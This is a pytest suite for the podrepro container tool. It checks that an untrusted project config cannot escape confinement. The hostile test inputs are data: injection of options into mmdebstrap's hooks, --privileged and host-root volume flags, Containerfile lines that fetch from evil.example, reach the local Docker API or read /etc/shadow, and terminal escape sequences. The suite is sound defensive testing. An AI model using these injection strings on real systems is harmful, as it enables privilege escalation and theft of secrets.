"""Untrusted project config and bad files (issue 6, items 2 and 3), without an engine.

A podrepro.toml comes with a checkout someone else wrote. It may pick profiles, packages and
commands that run *inside* the container; it must never widen what the container may touch on the
host: no host paths outside the project, no capabilities, no --privileged, no host network, no other
user namespace, no options smuggled into the host-side tools (mmdebstrap, podman build).

The end-to-end path is exercised in-process: ``run_cli`` composes the real ``podman run`` argv and
hands it to the (stubbed) ``process.exec_``; a strict parser then checks every option in it.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Iterator, Sequence
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, NoReturn

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from podrepro import config, runner, workflows
from podrepro.cli.main import run_cli
from podrepro.engine import bootstrap
from podrepro.errors import EXIT_USAGE, ConfigError, PodreproError
from tests.unit.sandbox import isolate

# ---- a strict reader of the ``podman run`` argv podrepro builds ---------------------------------

VALUED = {"--platform", "--network", "--security-opt", "--label", "--name", "--volume", "--tmpfs", "--env",
          "--workdir"}
FLAGS = {"--rm", "--pull=never", "-i", "-t", "--userns=keep-id", "--init"}


@dataclass
class RunArgv:
    options: list[tuple[str, str | None]]
    image: str
    command: list[str]

    def values(self, name: str) -> list[str]:
        return [v for k, v in self.options if k == name and v is not None]


def parse_run(argv: Sequence[str]) -> RunArgv:
    """Every token before the image must be an option podrepro is known to emit; anything else
    (--privileged, --cap-add, --device, -v, --userns=host, ...) fails here."""
    assert list(argv[:2]) == ["podman", "run"], argv
    opts: list[tuple[str, str | None]] = []
    i = 2
    while i < len(argv):
        a = argv[i]
        if a in FLAGS:
            opts.append((a, None))
            i += 1
        elif a in VALUED:
            opts.append((a, argv[i + 1]))
            i += 2
        else:
            assert not a.startswith("-"), f"unexpected podman option {a!r} in {argv}"
            return RunArgv(opts, a, list(argv[i + 1:]))
    raise AssertionError(f"no image in {argv}")


def assert_confined(argv: Sequence[str], root: Path, cache: Path, *, host_network: bool = False) -> RunArgv:
    r = parse_run(argv)
    names = [k for k, _ in r.options]
    assert "--privileged" not in names and "--cap-add" not in names
    assert names.count("--userns=keep-id") == 1, "files created inside belong to the user"
    assert r.values("--security-opt") in ([], ["label=disable"])
    nets = r.values("--network")
    assert nets in ([], ["none"]) or (host_network and nets == ["host"]), nets
    root_s = str(root)
    for vol in r.values("--volume"):
        src, _, dst = vol.partition(":")
        ok_project = src == root_s and dst == root_s
        ok_ccache = Path(src).is_relative_to(cache / "ccache") and dst == runner.CCACHE_MOUNT
        # the project's .git, read-only over the project mount (hooks and config stay the user's)
        ok_git = vol == f"{root_s}/.git:{root_s}/.git:ro"
        assert ok_project or ok_ccache or ok_git, f"volume {vol!r} is neither the project nor the ccache dir"
    assert r.values("--tmpfs") == [f"{runner.HOME_IN_CONTAINER}:rw,exec,mode=1777"]
    (wd,) = r.values("--workdir")
    assert Path(wd) == root or Path(wd).is_relative_to(root), wd
    assert r.image.startswith("localhost/podrepro/"), r.image
    return r


# ---- in-process harness -------------------------------------------------------------------------

class Exec(Exception):
    def __init__(self, argv: list[str]) -> None:
        super().__init__("exec")
        self.argv = argv


@dataclass
class Harness:
    tmp: Path
    calls: list[list[str]] = field(default_factory=list)
    foreground: list[list[str]] = field(default_factory=list)   # test: the build's and the tests' runs

    @property
    def cache(self) -> Path:
        return self.tmp / "cache"

    def cli(self, argv: list[str], cwd: Path) -> tuple[int, str, list[str] | None]:
        """(exit code, stderr, the argv podrepro exec'd or None)."""
        err = io.StringIO()
        old = Path.cwd()
        os.chdir(cwd)
        try:
            with redirect_stdout(io.StringIO()), redirect_stderr(err):
                code = run_cli(argv)
            execd = None
        except Exec as e:
            code, execd = 0, e.argv
        finally:
            os.chdir(old)
        if execd is None and self.foreground:
            execd = self.foreground[-1]
        return code, err.getvalue(), execd


@pytest.fixture
def harness(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Harness]:
    h = Harness(tmp_path)

    def run(argv: Sequence[str], **kw: Any) -> subprocess.CompletedProcess[bytes]:
        h.calls.append(list(argv))
        if list(argv[1:3]) == ["image", "exists"]:
            return subprocess.CompletedProcess(list(argv), 0, b"", b"")  # the image is there: no build
        raise PodreproError(f"(test) unexpected command {argv}")

    def popen(argv: Sequence[str], **kw: Any) -> NoReturn:
        raise PodreproError(f"(test) unexpected command {argv}")

    def exec_(argv: Sequence[str], **kw: Any) -> NoReturn:
        raise Exec(list(argv))

    def foreground(argv: Sequence[str]) -> int:
        h.foreground.append(list(argv))
        return 0

    isolate(monkeypatch, tmp_path, run, popen, exec_, foreground)
    monkeypatch.setattr(workflows, "check_binfmt", lambda arch, confirm: None)
    # whatever filesystem the test's tmp dir is on: runs exec (no output read for artefacts)
    monkeypatch.setattr("podrepro.fidelity.host.triggers", lambda arch, root, mountinfo=None: [])
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    yield h


def _project(tmp: Path, toml: str | bytes, files: dict[str, str] | None = None) -> Path:
    proj = tmp / "checkout"
    proj.mkdir(exist_ok=True)
    for name, text in (files or {}).items():
        (proj / name).parent.mkdir(parents=True, exist_ok=True)
        (proj / name).write_text(text)
    p = proj / "podrepro.toml"
    p.write_bytes(toml if isinstance(toml, bytes) else toml.encode())
    return proj


# ---- hostile files are refused: one line, exit 2 ------------------------------------------------

HOSTILE = [
    *[(f"{k} = true\n", "not allowed in a project file") for k in sorted(config.PROJECT_FORBIDDEN)],
    *[(f'[profile.x]\n{k} = ["SYS_ADMIN"]\n', "not allowed in a profile") for k in sorted(config.PROJECT_FORBIDDEN)],
    ('network = "host"\n', "not allowed in a project file"),
    ('volumes = ["/:/host"]\n', "not allowed"),
    ('[profile.x]\nbuild_dir = "../outside"\n', "build_dir must stay inside the project"),
    ('[profile.x]\nbuild_dir = "/etc"\n', "build_dir must stay inside the project"),
    ('[profile.x]\nbuild_dir = "{src}/../x"\n', "build_dir must stay inside the project"),
    ('[profile.x]\ncontainerfile = "/etc/passwd"\n', "outside the project"),
    ('[profile.x]\ncontainerfile = "../elsewhere/Containerfile"\n', "outside the project"),
    ('[profile.x]\ncontainerfile = "missing.Containerfile"\n', "not found"),
    # option injection into mmdebstrap (which parses options after its positional arguments)
    ('suite = "--customize-hook=touch /tmp/pwned"\n', "'suite' must be a Debian suite name"),
    ('suite = "bookworm --include=x"\n', "'suite' must be a Debian suite name"),
    ('mirror = "--setup-hook=touch /tmp/pwned"\n', "'mirror' must be an http"),
    # mmdebstrap reads an existing file named by its mirror argument as a sources.list: a
    # repository's own "file:/x.list" could say [trusted=yes] and point anywhere
    ('mirror = "file:/x.list"\n', "a project file may name only an http(s) mirror"),
    ('mirror = "file:///srv/mirror"\n', "a project file may name only an http(s) mirror"),
    ('mirror = "http:/evil.list"\n', "'mirror' must be an http"),
    ('mirror = "http://x/debian[trusted=yes]"\n', "'mirror' must be an http"),
    ('mirror = "http://127.0.0.1/debian --customize-hook=id"\n', "'mirror' must be an http"),
    # wrong types, unknown keys, syntax
    ('network = "yes please"\n', "must be true or false"),
    ('timeout_multiplier = [1]\n', "must be a number"),
    ('env = "A=1"\nenv = "B=2"\n', "podrepro.toml:2: Cannot overwrite a value"),
    ('[profile.x]\npackages = "gcc"\n', "must be a list of strings"),
    ('[profile.x]\nbuild = 5\n', "must be a command"),
    ('[profile.x]\nccache = "yes"\n', "must be true or false"),
    ('[profile.x]\ntimeout_base = -1\n', "whole number of seconds"),
    ('[profile.x]\nentrypoint = "/bin/sh"\n', "unknown profile key 'entrypoint'"),
    ('[profile."../../x"]\nbuild = "true"\n', "profile name"),
    ('[profile]\nx = 1\n', "must be a table"),
    ('podman_args = ["--privileged"]\n', "unknown key 'podman_args'"),
    ('[[profile]]\nname = "x"\n', "podrepro.toml:1: 'profile' must be a string"),
    ('suite = "bookworm"\n[suite]\n', "podrepro.toml:2: Cannot overwrite a value"),
    ('\x00 = 1\n', "podrepro.toml:1: Invalid statement"),
]


@pytest.mark.parametrize("toml, needle", HOSTILE, ids=[t[0].splitlines()[0][:40] for t in HOSTILE])
def test_hostile_project_file_refused(tmp_path: Path, toml: str, needle: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "Containerfile").write_text("FROM x\n")
    proj = _project(tmp_path, toml)
    with pytest.raises(ConfigError) as e:
        config.resolve({}, cwd=proj, environ={}, user_file=tmp_path / "none.toml")
    assert e.value.exit_code == EXIT_USAGE
    assert needle and needle in e.value.message, e.value.message
    assert "\n" not in e.value.message and e.value.message.startswith("podrepro.toml")


def test_containerfile_symlink_out_of_the_project_refused(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "Containerfile").write_text("FROM x\n")
    proj = _project(tmp_path, '[profile.x]\ncontainerfile = "link/Containerfile"\n')
    (proj / "link").symlink_to(tmp_path / "secrets")
    with pytest.raises(ConfigError, match="outside the project"):
        config.resolve({}, cwd=proj, environ={}, user_file=tmp_path / "none.toml")


def test_user_config_may_point_anywhere(tmp_path: Path) -> None:
    """The user's own config file is trusted: its Containerfiles may live anywhere."""
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "Containerfile").write_text("FROM x\n")
    uf = tmp_path / "cfg" / "config.toml"
    uf.parent.mkdir()
    uf.write_text(f'[profile.x]\ncontainerfile = "{tmp_path}/mine/Containerfile"\n')
    c = config.resolve({}, cwd=tmp_path, environ={}, user_file=uf)
    assert c.profiles["x"]["containerfile"] == str(tmp_path / "mine" / "Containerfile")


@pytest.mark.parametrize("flag, value", [("--suite", "--customize-hook=id"), ("--mirror", "--setup-hook=id"),
                                         ("--mirror", "ftp://x/debian")])
def test_host_tool_option_injection_from_flags_or_env(tmp_path: Path, flag: str, value: str) -> None:
    name = flag.lstrip("-")
    with pytest.raises(ConfigError):
        config.resolve({name: value}, cwd=tmp_path, environ={}, user_file=tmp_path / "none.toml")
    with pytest.raises(ConfigError):
        config.resolve({}, cwd=tmp_path, environ={f"PODREPRO_{name.upper()}": value},
                       user_file=tmp_path / "none.toml")


def test_valid_suite_and_mirror_still_accepted(tmp_path: Path) -> None:
    c = config.resolve({"suite": "bookworm", "mirror": "http://127.0.0.1:3142/debian"}, cwd=tmp_path, environ={},
                       user_file=tmp_path / "none.toml")
    argv = bootstrap.mmdebstrap_argv(bootstrap.BootstrapSpec("armhf", c["suite"], "minbase", c["mirror"]))
    assert argv[-3:] == ["bookworm", "-", "http://127.0.0.1:3142/debian"]
    assert all(not a.startswith("-") or a == "-" for a in argv[-3:])


BAD_FILES: list[tuple[str, bytes]] = [
    ("syntax", b'suite = "bookworm\n'),
    ("wrong type", b"network = 3\n"),
    ("unknown key", b"colour = 'blue'\n"),
    ("not utf-8", b'suite = "\xff\xfe"\n'),
    ("huge", b"# " + b"x" * (config.MAX_CONFIG_BYTES + 10) + b"\n"),
    ("missing Containerfile", b'[profile.x]\ncontainerfile = "nope.Containerfile"\n'),
    ("privileged", b"privileged = true\n"),
    ("binary junk", os.urandom(64).replace(b"\n", b" ") + b"\n"),
]


@pytest.mark.parametrize("cmd", [["config", "show"], ["run", "arm", "--", "true"], ["image", "build", "arm"],
                                 ["test", "mips"], ["image", "ls"]])
@pytest.mark.parametrize("kind, data", BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_project_file_is_one_line_exit_2(harness: Harness, kind: str, data: bytes, cmd: list[str]) -> None:
    proj = _project(harness.tmp, data)
    code, err, execd = harness.cli(cmd, proj)
    assert execd is None, "nothing ran"
    assert code == 2, (kind, code, err)
    assert err.count("\n") == 1 and err.startswith("error: "), err
    assert "Traceback" not in err
    assert not [c for c in harness.calls if c[1:2] != ["image"]], harness.calls


# ---- hostile-but-valid projects: whatever they say, the argv stays confined ---------------------

VALID_HOSTILE = """
default_profile = "evil"
network = false
env = ["PATH=/evil", "LD_PRELOAD=/x.so", "A=--privileged"]
cpu = "max"
[profile.evil]
extends = "generic"
build_dir = "out/{arch}"
env = ["--volume=/:/host", "X=$(id)", "HOME=/root", "--cap-add=ALL"]
build = ["--privileged", "--volume", "/:/host"]
test = "sh -c 'id; cat /etc/shadow' --network=host"
shell = "--userns=host"
"""


@pytest.mark.parametrize("cmd", [["run", "arm", "--", "--privileged", "-v", "/:/host"], ["build", "arm"],
                                 ["test", "arm", "--filter", "--cap-add=ALL"], ["shell", "mips"],
                                 ["run", "--network", "arm", "--", "true"]])
def test_valid_hostile_project_stays_confined(harness: Harness, cmd: list[str]) -> None:
    proj = _project(harness.tmp, VALID_HOSTILE)
    # from a subdirectory of the project (the build dir's parent), as a developer would
    (proj / "out").mkdir(exist_ok=True)
    code, err, argv = harness.cli(cmd, proj / "out")
    assert argv is not None, (code, err)
    r = assert_confined(argv, proj.resolve(), harness.cache)
    for other in harness.foreground:  # test: the build that ran first too
        assert_confined(other, proj.resolve(), harness.cache)
    if cmd[0] == "test":
        assert len(harness.foreground) == 2, "test builds first, then tests"
    # the hostile strings are data: in --env values or after the image, never options
    assert "--env" in [k for k, _ in r.options]
    if cmd[0] == "run" and cmd[1] != "--network":
        assert r.command == ["--privileged", "-v", "/:/host"]
    if cmd[0] == "run" and cmd[1] == "--network":
        assert r.values("--network") == [], "--network gives the private network, not the host's"
    # run and shell start in the directory they were started from; build and test at the root
    want = proj.resolve() / "out" if cmd[0] in ("run", "shell") else proj.resolve()
    assert r.values("--workdir") == [str(want)], r.values("--workdir")
    assert not (harness.tmp / "host").exists()


def test_host_network_only_from_the_command_line(harness: Harness) -> None:
    from podrepro import trust
    from podrepro.paths import get_paths

    proj = _project(harness.tmp, 'network = true\n')
    # not approved: no network at all, and one line says why and how to approve
    _, err, argv = harness.cli(["run", "arm", "--", "true"], proj)
    assert argv is not None, err
    assert parse_run(argv).values("--network") == ["none"]
    assert "asks for network (a network for the container): ignored until you approve" in err, err
    trust.approve(get_paths(), proj / "podrepro.toml")
    _, err, argv = harness.cli(["run", "arm", "--", "true"], proj)
    assert argv is not None, err
    assert parse_run(argv).values("--network") == []  # private network, not the host's
    _, err, argv = harness.cli(["run", "--host-network", "arm", "--", "true"], proj)
    assert argv is not None, err
    assert_confined(argv, proj.resolve(), harness.cache, host_network=True)
    assert parse_run(argv).values("--network") == ["host"]


_env_item = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\"\\"),
                    min_size=1, max_size=30)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(env=st.lists(_env_item.map(lambda s: "A=" + s), max_size=4),
       command=st.lists(_env_item, min_size=1, max_size=4))
def test_generated_profiles_stay_confined(harness: Harness, env: list[str], command: list[str]) -> None:
    toml = ('default_profile = "g"\n[profile.g]\nenv = [' + ", ".join(f'"{e}"' for e in env) + "]\n"
            "build = [" + ", ".join(f'"{c}"' for c in command) + "]\n")
    proj = _project(harness.tmp, toml)
    code, err, argv = harness.cli(["build", "arm"], proj)
    assert argv is not None, (code, err)
    r = assert_confined(argv, proj.resolve(), harness.cache)
    assert r.command == command


def test_parse_run_rejects_what_podrepro_must_never_emit() -> None:
    base = ["podman", "run", "--rm", "--userns=keep-id", "--workdir", "/p", "--tmpfs",
            f"{runner.HOME_IN_CONTAINER}:rw,exec,mode=1777"]
    for bad in (["--privileged"], ["--cap-add", "SYS_ADMIN"], ["--device", "/dev/kvm"], ["-v", "/:/h"],
                ["--security-opt", "seccomp=unconfined"], ["--network", "host"], ["--volume", "/etc:/etc"]):
        with pytest.raises(AssertionError):
            assert_confined([*base, *bad, "localhost/podrepro/x:y", "true"], Path("/p"), Path("/c"))
    assert_confined([*base, "localhost/podrepro/x:y", "true"], Path("/p"), Path("/c"))


def test_config_show_escapes_control_characters(harness: Harness) -> None:
    """An escape sequence in a project value cannot rewrite the table on the user's terminal."""
    # TOML escapes: the file itself is plain text, the value is not
    proj = _project(harness.tmp, 'env = ["A=x\\u001b[2K\\u001b[1A\\rprofile  generic  default\\u202e"]\n')
    out = io.StringIO()
    old = Path.cwd()
    os.chdir(proj)
    try:
        with redirect_stdout(out), redirect_stderr(io.StringIO()):
            code = run_cli(["config", "show"])
    finally:
        os.chdir(old)
    assert code == 0
    text = out.getvalue()
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    assert "A=x\\x1b[2K\\x1b[1A\\rprofile  generic  default\\u202e" in text, text


def test_trust_approves_this_file_as_it_is(harness: Harness) -> None:
    proj = _project(harness.tmp, 'env = ["GITHUB_TOKEN", "A=1"]\n[profile.x]\npackages = ["curl"]\n')
    code, _, _ = harness.cli(["trust", "--show"], proj)
    assert code == 0
    # the approval is what the env pass-through, a profile's packages... count by
    cfg = config.resolve({}, cwd=proj, environ={})
    assert cfg["env"] == ["A=1"] and "packages" not in cfg.profiles["x"] and len(cfg.notices) == 1
    assert "env (host variables GITHUB_TOKEN); profile.x.packages (curl)" in cfg.notices[0]
    assert harness.cli(["trust"], proj)[0] == 0
    cfg = config.resolve({}, cwd=proj, environ={})
    assert cfg["env"] == ["GITHUB_TOKEN", "A=1"] and cfg.profiles["x"]["packages"] == ["curl"] and cfg.notices == ()
    # an edit (a new request smuggled in after the approval) needs a new approval
    (proj / "podrepro.toml").write_text('network = true\n' + (proj / "podrepro.toml").read_text())
    cfg = config.resolve({}, cwd=proj, environ={})
    assert cfg["env"] == ["A=1"] and cfg["network"] is False and len(cfg.notices) == 1
    assert harness.cli(["trust", "--revoke"], proj)[0] == 0


@pytest.mark.parametrize("body, needle", [
    ("COPY secret.txt /x\n", "COPY takes files from the build context"),
    ("ADD https://evil.example/x /x\n", "ADD takes files"),
    ("copy \\\n  a b\n", "COPY takes files"),
    ("COPY --from=localhost/podrepro/base:arm-x /etc /y\n", "COPY takes files"),
    ("RUN --network=host curl http://127.0.0.1:2375/\n", "RUN --network reaches past the build step"),
    ("RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n", "RUN --mount reaches past"),
])
def test_project_containerfile_cannot_reach_past_its_build(tmp_path: Path, body: str, needle: str) -> None:
    """The attacks: files of the build context the tag does not cover (two projects, one tag),
    another local image, the host's network or paths from a RUN step."""
    proj = _project(tmp_path, '[profile.x]\ncontainerfile = "x.Containerfile"\n',
                    {"x.Containerfile": "ARG BASE\nFROM ${BASE}\n" + body, "secret.txt": "s"})
    with pytest.raises(ConfigError) as e:
        config.resolve({}, cwd=proj, environ={}, user_file=tmp_path / "none.toml")
    assert needle in e.value.message, e.value.message
    # RUN steps that install and build are fine
    (proj / "x.Containerfile").write_text("ARG BASE\nFROM ${BASE}\nRUN apt-get update && \\\n  apt-get install -y curl\n")
    config.resolve({}, cwd=proj, environ={}, user_file=tmp_path / "none.toml")


def test_each_project_gets_its_own_ccache(harness: Harness) -> None:
    """A hostile project's build could plant a ccache entry for another project's source: the
    cache is per architecture and per project."""
    (harness.tmp / "a").mkdir()
    (harness.tmp / "b").mkdir()
    a = _project(harness.tmp / "a", '[profile.x]\nextends = "generic"\n')
    b = _project(harness.tmp / "b", '[profile.x]\nextends = "generic"\n')
    mounts = []
    for proj in (a, b):
        _, err, argv = harness.cli(["run", "--profile", "x", "arm", "--", "true"], proj)
        assert argv is not None, err
        mounts += [v for v in parse_run(argv).values("--volume") if v.endswith(":" + runner.CCACHE_MOUNT)]
    assert len(mounts) == 2 and mounts[0] != mounts[1], mounts
